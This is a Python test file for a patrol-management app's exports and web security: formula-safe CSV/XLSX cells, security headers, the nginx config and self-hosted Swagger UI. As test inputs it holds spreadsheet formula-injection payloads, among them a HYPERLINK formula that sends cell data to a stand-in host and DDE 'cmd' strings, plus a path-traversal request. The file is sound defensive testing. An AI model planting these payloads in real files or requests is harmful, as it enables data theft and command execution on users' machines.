"""Output that cannot be turned into an attack: formula-safe spreadsheet cells in every export,
security headers on every surface (also in infra/nginx.conf), Swagger UI served by us."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path
from types import SimpleNamespace

import pytest
from openpyxl import Workbook, load_workbook

from xunjian import exports
from xunjian.patrol.register import register_csv
from xunjian.web.headers import inline_script_hashes
from xunjian.workorders import metrics

REPO = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://x/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_start_becomes_text(text):
    assert exports.cell(text) == "'" + text
    book = Workbook()
    sheet = book.active
    sheet.append(exports.row([text, 5, -3, None]))
    buffer = io.BytesIO()
    book.save(buffer)
    cells = load_workbook(io.BytesIO(buffer.getvalue())).active[1]
    assert cells[0].data_type == "s" and cells[0].value.startswith("'")  # XLSX keeps \r as \n
    assert (cells[1].value, cells[2].value) == (5, -3)  # numbers stay numbers


def test_harmless_text_is_unchanged():
    for text in ("巡查正常", "A-12", "2026-11-23 09:30", ""):
        assert exports.cell(text) == text


def test_the_patrol_register_neutralises_notes_and_names():
    at = dt.datetime(2026, 11, 23, 1, 30, tzinfo=dt.UTC)
    run = SimpleNamespace(
        id=1, state="completed", started_at=at, finished_at=at, finish_reason="@evil", flags=[]
    )
    finding = SimpleNamespace(
        status="open", recorded_at=at, outcome="problem", category="other", note=HOSTILE[0]
    )
    data = {
        "timezone": "Asia/Shanghai",
        "runs": [
            {
                "run": run,
                "route_code": "R1",
                "route_name_zh": "夜巡",
                "runner_name": "=cmd|'/c calc'!A1",
                "checkins": [],
                "findings": [
                    {
                        "finding": finding,
                        "checkpoint_code": "CP1",
                        "checkpoint_name_zh": "+泵房",
                        "place": "-1F",
                        "photos": [],
                    }
                ],
            }
        ],
    }
    for lang in ("zh", "en"):
        text = register_csv(data, lang).decode("utf-8-sig")
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert not [c for c in cells if c.startswith(exports.FORMULA_STARTS)], cells
        assert "'" + HOSTILE[0] in cells


def test_the_metrics_exports_go_through_the_same_function():
    report = {"property_id": 1, "start": "=1+1", "end": "2026-11-30", "backlog": {}, "_detail": []}
    for key in metrics.LABELS:
        report[key] = {
            "numerator": 0,
            "denominator": 0,
            "rate": None,
            "target": 0.9,
            "target_op": ">=",
            "meets_target": None,
        }
    report["backlog"] = dict.fromkeys(metrics.BUCKET_LABELS, 0)
    text = metrics.to_csv(report).decode("utf-8-sig")
    assert "'=1+1" in text
    sheet = load_workbook(io.BytesIO(metrics.to_xlsx(report)))["summary"]
    assert sheet["D1"].value == "'=1+1" and sheet["D1"].data_type == "s"


def _common(r):
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert r.headers["X-Frame-Options"] == "DENY"
    assert r.headers["Referrer-Policy"] == "no-referrer"
    assert "frame-ancestors 'none'" in r.headers["Content-Security-Policy"]


def test_security_headers_on_the_api_the_app_and_the_verification_page(client):
    api = client.get("/api/v1/properties")
    _common(api)
    assert api.headers["Content-Security-Policy"].startswith("default-src 'none'")
    _common(client.post("/api/v1/auth/login", json={}))
    page = client.get("/")
    _common(page)
    index = (REPO / "mobile_pwa" / "index.html").read_text(encoding="utf-8")
    (import_map,) = inline_script_hashes(index)
    csp = page.headers["Content-Security-Policy"]
    assert f"script-src 'self' {import_map};" in csp and "unsafe-inline'; img" in csp
    assert "'unsafe-eval'" not in csp
    verify = client.get("/v/NOSUCHCODE")
    _common(verify)
    assert "script-src 'self'" in verify.headers["Content-Security-Policy"]


def test_nginx_sends_the_same_headers_with_the_current_import_map_hash():
    conf = (REPO / "infra" / "nginx" / "xunjian.conf").read_text(encoding="utf-8")
    index = (REPO / "mobile_pwa" / "index.html").read_text(encoding="utf-8")
    (import_map,) = inline_script_hashes(index)
    assert import_map in conf
    static_locations = re.findall(r"^\s*location (?!~ \^/\(api).*$", conf, re.M)
    assert static_locations
    for line in static_locations:
        for header in (
            "Content-Security-Policy",
            "X-Content-Type-Options nosniff",
            "X-Frame-Options DENY",
            "Referrer-Policy no-referrer",
        ):
            assert header in line, line


def test_the_api_docs_use_our_own_swagger_ui(client):
    page = client.get("/api/docs")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "cdn" not in html and "jsdelivr" not in html
    for name in re.findall(r'(?:src|href)="(/api/docs/assets/[^"]+)"', html):
        asset = client.get(name)
        assert asset.status_code == 200 and len(asset.data) > 1000, name
    assert len(re.findall(r"/api/docs/assets/", html)) == 3
    _common(page)
    assert client.get("/api/docs/assets/../../config.py").status_code == 404
